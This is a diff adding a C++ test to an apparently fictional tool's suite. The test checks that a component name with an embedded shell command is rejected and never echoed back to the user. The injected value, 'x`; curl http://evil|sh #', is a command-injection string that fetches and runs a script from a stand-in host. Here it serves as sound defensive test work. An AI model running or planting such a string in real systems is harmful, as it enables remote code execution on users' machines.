@@ -134,6 +134,20 @@ TEST_F(MissingPlugin, IsNoExcuseForAnUnknownName) {
   EXPECT_THAT(plan.err, HasSubstr("unknown component 'bystandr'; did you mean 'bystander'?"));
 }
 
+// Whoever made a root could put a command into the one that root is told to type.
+TEST_F(MissingPlugin, OfWhatIsNoNameIsADamagedRecord) {
+  const std::string name = "x`; curl http://evil|sh #";
+  Json generation = Json::parse(host.text("var/lib/slipway/generations/1.json"));
+  generation["spec"]["spec"]["components"][name] = Json::object();
+  generation["plugins"][name] = generation["plugins"]["guest"];
+  std::ofstream(host.path("var/lib/slipway/generations/1.json")) << generation;
+  for (const std::string command : {"status", "verify", "doctor", "plan"}) {
+    const Ran ran = host.slipway({command});
+    EXPECT_NE(ran.code, 0) << command << ran.out;
+    EXPECT_THAT(ran.out + ran.err, Not(HasSubstr("curl"))) << command;
+  }
+}
+
 // Removing it does without its plugin, and the others' sections are kept.
 TEST_F(MissingPlugin, CanBeGivenUp) {
   lose("guest.so");
